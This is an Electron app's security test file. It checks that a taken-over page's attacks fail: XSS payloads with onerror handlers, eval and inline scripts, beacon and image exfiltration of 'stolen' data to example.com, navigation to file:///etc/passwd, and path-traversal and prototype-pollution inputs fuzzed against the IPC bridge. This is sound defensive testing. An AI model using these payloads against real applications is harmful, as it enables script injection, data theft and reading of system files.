import { afterEach, describe, expect, it } from 'vitest';
import { describeDesktop } from './describe-desktop.ts';

/**
 * What a page that was taken over might try, against the window that runs. Source: Electron, "Security", the checklist.
 * Each attempt is named by what it does in the page.
 */
const CODE = {
  eval: () => {
    // biome-ignore lint/security/noGlobalEval: the attack
    setTimeout(() => window.eval('window.wasRun = 1'), 0); // later: the debugger itself may
  },
  'new Function': () => {
    setTimeout(() => new Function('window.wasRun = 1')(), 0);
  },
  'a timer with text': () => {
    // biome-ignore lint/suspicious/noExplicitAny: text in place of a function is the attack
    setTimeout(() => setTimeout('window.wasRun = 1' as any, 0), 0);
  },
  'an inline script': () => {
    const script = document.createElement('script');
    script.append(document.createTextNode('window.wasRun = 1'));
    document.body.append(script);
  },
  'a remote script': () => {
    document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.com/x.js' }));
  },
  'a handler in markup': () => {
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.wasRun = 1');
    image.src = 'nowhere.png';
    document.body.append(image);
  },
  'markup that is set': () => {
    document.createElement('div').innerHTML = '<img src=x onerror="window.wasRun = 1">';
  },
  'a worker of its own text': () => {
    new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
  },
  'a page within the page': () => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.com/' }));
  },
  'the app within the page': () => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: location.href }));
  },
  'a page of its own text': () => {
    document.body.append(
      Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.wasRun=1</script>' }),
    );
  },
  'a plug-in': () => {
    document.body.append(Object.assign(document.createElement('object'), { data: 'https://example.com/x.swf' }));
  },
  'a fetch': () => void fetch('https://example.com/').catch(() => undefined),
  'a web socket': () => void new WebSocket('wss://example.com/'),
  'a stream of events': () => void new EventSource('https://example.com/'),
  'a beacon': () => void navigator.sendBeacon('https://example.com/', 'stolen'),
  'a picture': () => {
    document.body.append(Object.assign(document.createElement('img'), { src: 'https://example.com/?stolen' }));
  },
  'a style sheet': () => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://example.com/x.css' }),
    );
  },
  'a form': () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://example.com/', method: 'post' });
    document.body.append(form);
    form.submit();
  },
} as const;

/** Ways to another page, or to another window. A `blob:` page is for main's guard alone: see test/main/guards.test.ts. */
const WAYS = {
  'a location': () => location.assign('https://example.com/'),
  'a file of the disk': () => location.assign('file:///etc/passwd'),
  'a page of data': () => location.assign('data:text/html,<h1>theirs</h1>'),
  'a script for an address': () => location.assign('javascript:window.wasRun=1'),
  'a link': () => {
    const link = Object.assign(document.createElement('a'), { href: 'https://example.com/' });
    document.body.append(link);
    link.click();
  },
  'a link to another window': () => {
    const link = Object.assign(document.createElement('a'), { href: 'https://example.com/', target: '_blank' });
    document.body.append(link);
    link.click();
  },
  'a refresh': () => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = '0;url=https://example.com/';
    document.head.append(meta);
  },
  'window.open': () => void window.open('https://example.com/'),
  'window.open of nothing': () => void window.open(''),
} as const;

describeDesktop('attacks on the window', (desktop) => {
  afterEach(async () => {
    const { page, main } = desktop();
    const after = {
      url: page.url(),
      windows: await main.windowCount(),
      wasRun: await page.evaluate(() => 'wasRun' in window),
    };
    await page.reload();
    await page.getByRole('main').waitFor();
    expect(after).toEqual({ url: expect.stringMatching(/^[^?]*\/index\.html(?:#.*)?$/), windows: 1, wasRun: false });
  });

  it.each(Object.entries(CODE))(
    '%s is refused by the content policy, or by the types that it wants',
    async (_, attack) => {
      const { page } = desktop();
      await page.evaluate(() => {
        const seen: string[] = [];
        (window as unknown as { seen: string[] }).seen = seen;
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
      });
      const refused = () => page.evaluate(() => (window as unknown as { seen: string[] }).seen);
      // A throw is a refusal as well, and the policy is told of both.
      await page.evaluate(attack).catch(() => undefined);
      await expect.poll(refused).not.toEqual([]);
    },
  );

  it.each(Object.entries(WAYS))('%s leads nowhere', async (_, attack) => {
    const { page } = desktop();
    const before = page.url();
    await page.evaluate(attack).catch(() => undefined);
    await page.waitForTimeout(250); // nothing is to happen: there is nothing to wait for
    expect(page.url()).toBe(before);
    await page.getByRole('heading', { name: 'Trail' }).waitFor();
  });

  it('what asks for a permission is denied it', async () => {
    const denied = await desktop().page.evaluate(async () => {
      const refusal = (asked: Promise<unknown>) =>
        asked.then(
          (answer) => String(answer),
          (error: unknown) => (error instanceof Error ? error.name : 'denied'),
        );
      return Promise.all([
        refusal(Notification.requestPermission()),
        refusal(new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, () => reject(0)))),
        refusal(navigator.mediaDevices.getUserMedia({ audio: true })),
        refusal(navigator.clipboard.readText()),
      ]);
    });
    expect(denied).toEqual([
      expect.stringMatching(/denied|default/),
      'denied',
      expect.stringMatching(/Not(Allowed|Found)Error/),
      'NotAllowedError',
    ]);
  });

  describe('through the bridge', () => {
    it('garbage is answered with an error that tells nothing of the inside, and the lab goes on', async () => {
      const answers = await desktop().page.evaluate(async () => {
        type Ask = (message: unknown) => Promise<unknown>;
        const { call, ask, act, desk } = (window as unknown as { kmslab: Record<string, Ask> }).kmslab;
        let state = 7;
        const below = (count: number): number => {
          state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
          return (state >>> 8) % count;
        };
        const words = [
          'type',
          '__proto__',
          'constructor',
          'prototype',
          'view',
          'call',
          'path',
          'key',
          'toString',
          'at',
        ];
        const leaves = [
          null,
          undefined,
          0,
          -1,
          2 ** 53,
          Number.NaN,
          '',
          '../../etc/passwd',
          '\u0000',
          true,
          new Date(0),
          [],
          {},
        ];
        const made = (depth: number): unknown => {
          if (depth === 0 || below(3) === 0) return leaves[below(leaves.length)];
          if (below(4) === 0) return Array.from({ length: below(4) }, () => made(depth - 1));
          const of: Record<string, unknown> = {};
          for (let n = below(4); n >= 0; n -= 1)
            Object.defineProperty(of, words[below(words.length)] ?? '', {
              value: made(depth - 1),
              enumerable: true,
              configurable: true,
              writable: true,
            });
          return of;
        };
        const circle: Record<string, unknown> = { type: 'view' };
        circle.self = circle;
        const said: unknown[] = [];
        const all = [
          ...Array.from({ length: 300 }, () => made(4)),
          'x'.repeat(4_000_000),
          { type: 'view', at: 'x'.repeat(4_000_000) },
          circle,
          new Map([['type', 'view']]),
          { type: 'getFile', name: '/etc/passwd' },
          { type: 'getFile', name: '../../../../etc/passwd' },
          { type: 'lesson', does: 'start', lesson: '../../etc/passwd' },
          { type: 'replay', does: 'open', name: '/etc/passwd' },
        ];
        for (const message of all)
          for (const way of [call, ask, act, desk]) {
            try {
              said.push(await way?.(message));
            } catch (error) {
              said.push({ ok: false, error: { name: 'thrown', message: String(error) } }); // it can't be cloned
            }
          }
        return {
          said: said.map((answer) => JSON.stringify(answer) ?? 'undefined'),
          isPolluted: ['type', 'view', 'path'].some((name) => name in {}),
        };
      });
      expect(answers.isPolluted).toBe(false);
      for (const answer of answers.said) {
        expect(answer).not.toMatch(/root:x:|\n? +at \S+ \(|node_modules|dist[\\/]/);
        expect(answer.length).toBeLessThan(200_000);
      }
      const refused = answers.said.filter((answer) => answer.includes('"ok":false')).length;
      expect(refused).toBeGreaterThan(answers.said.length * 0.9);
      await desktop().page.getByRole('heading', { name: 'Trail' }).waitFor();
    }, 120_000);
  });
});
